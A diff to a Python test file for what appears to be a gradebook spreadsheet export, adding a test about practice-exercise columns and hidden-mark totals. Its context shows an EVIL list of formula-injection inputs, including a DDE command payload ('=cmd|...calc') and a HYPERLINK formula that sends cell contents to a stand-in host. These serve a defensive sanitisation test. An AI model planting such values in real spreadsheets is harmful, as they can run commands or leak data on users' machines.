@@ -58,6 +58,20 @@ def test_what_has_no_mark(tmp_path: Path) -> None:
     assert rows[1]["possible"] == ""
 
 
+def test_practice_has_no_column_and_all_rows_one_sum_of_hidden_marks(tmp_path: Path) -> None:
+    nothing: dict[str, Any] = {"exercises": [], "checks": [], "total": 0.0}
+    practice = {"name": "MLP", "points": 0, "earned": 0, "hidden": False, "passed": False, "hint": "", "seconds": 0.0}
+    graded = record("full", 10)
+    graded["exercises"].append(practice)  # type: ignore[arg-type]
+    rows = book(
+        tmp_path,
+        (graded, "full", 1, True),
+        (record("bad", status=UNREADABLE, reason="no archive", **nothing), "bad", 1, True),
+    )
+    assert "MLP" not in rows[0]
+    assert [row["hidden possible"] for row in rows] == ["4", "4"]
+
+
 EVIL = [
     "=1+1", "+1", "-1", "@SUM(A1)", "\t=1+1", "\r=1+1", " =1+1", "＝1+1", "＋1", "－1", "＠1", "|calc", "\n=1", '"=1',
     '=HYPERLINK("http://x/?"&A1)', "a;=1+1", 'a,"=1+1', "a\n=1+1", "a\t=1+1", "ok', =1+1", "=cmd|' /C calc'!A0",
